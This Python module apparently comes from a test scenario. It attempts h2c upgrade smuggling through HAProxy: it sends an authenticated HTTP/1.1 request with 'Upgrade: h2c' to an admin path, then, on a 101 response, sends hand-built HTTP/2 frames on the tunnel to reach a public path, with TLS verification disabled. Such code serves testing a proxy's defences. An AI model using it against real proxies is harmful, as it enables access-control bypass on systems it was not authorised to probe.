"""An h2c smuggling attempt through HAProxy (issue 10, "h2c upgrade").

Over one TLS connection to HAProxy's HTTPS frontend: an HTTP/1.1 request for an admin
path with `Upgrade: h2c` (and the admin's credentials, so the admin gate is passed). If
the answer is 101, HAProxy has handed the connection over and the client speaks HTTP/2
(prior knowledge, RFC 9113 section 3.4) to ask for a public path on the tunnel. If it is
not, the client asks for the public path with HTTP/1.1 on the same connection. Either
way the caller gets everything read back, to look for Owncast's public side in it.
"""

from __future__ import annotations

import base64
import socket
import ssl
import struct
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A SETTINGS payload (max concurrent streams 100, initial window 1 GiB, no push), base64url
# as the HTTP2-Settings header of an h2c upgrade carries it (RFC 7540 section 3.2.1).
HTTP2_SETTINGS = "AAMAAABkAARAAAAAAAIAAAAA"
FRAME_HEADERS, FRAME_SETTINGS = 0x1, 0x4
END_STREAM_END_HEADERS = 0x5


@dataclass
class Attempt:
    first_status: int
    upgraded: bool
    received: bytes


def unverified_tls() -> ssl.SSLContext:
    # The scenario's certificate is self-signed; this is about what HAProxy lets through.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1"])
    return context


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index: int, value: str) -> bytes:
    """HPACK literal header field without indexing, name from the static table (index < 15)."""
    encoded = value.encode()
    return bytes([index, len(encoded)]) + encoded


def h2_get(path: str, authority: str, stream: int) -> bytes:
    # :method GET (static 2), :scheme http (static 6), :path (4), :authority (1).
    block = b"\x82\x86" + literal(4, path) + literal(1, authority)
    return frame(FRAME_HEADERS, END_STREAM_END_HEADERS, stream, block)


def read_all(conn: ssl.SSLSocket, limit: int = 1 << 20) -> bytes:
    received = b""
    try:
        while len(received) < limit:
            chunk = conn.recv(65536)
            if not chunk:
                break
            received += chunk
    except (TimeoutError, ssl.SSLError, ConnectionResetError):
        pass
    return received


def read_head(conn: ssl.SSLSocket) -> bytes:
    head = b""
    try:
        while b"\r\n\r\n" not in head:
            chunk = conn.recv(1)
            if not chunk:
                break
            head += chunk
    except (TimeoutError, ssl.SSLError, ConnectionResetError):
        pass
    return head


def attempt(host: str, port: int, admin_path: str, public_path: str, password: str) -> Attempt:
    """Upgrade on `admin_path`, then ask for `public_path` on the same connection."""
    authority = f"{host}:{port}"
    credentials = base64.b64encode(f"admin:{password}".encode()).decode()
    upgrade = (
        f"GET {admin_path} HTTP/1.1\r\nHost: {authority}\r\nAuthorization: Basic {credentials}\r\n"
        f"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {HTTP2_SETTINGS}\r\n\r\n"
    )
    with socket.create_connection((host, port), timeout=5) as raw:
        with unverified_tls().wrap_socket(raw, server_hostname=host) as conn:
            conn.sendall(upgrade.encode())
            head = read_head(conn)
            status = int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/1.") else 0
            if status == 101:
                conn.sendall(PREFACE + frame(FRAME_SETTINGS, 0, 0, b"") + h2_get(public_path, authority, 3))
            else:
                conn.sendall(
                    f"GET {public_path} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n".encode()
                )
            conn.settimeout(3)
            return Attempt(status, status == 101, head + read_all(conn))
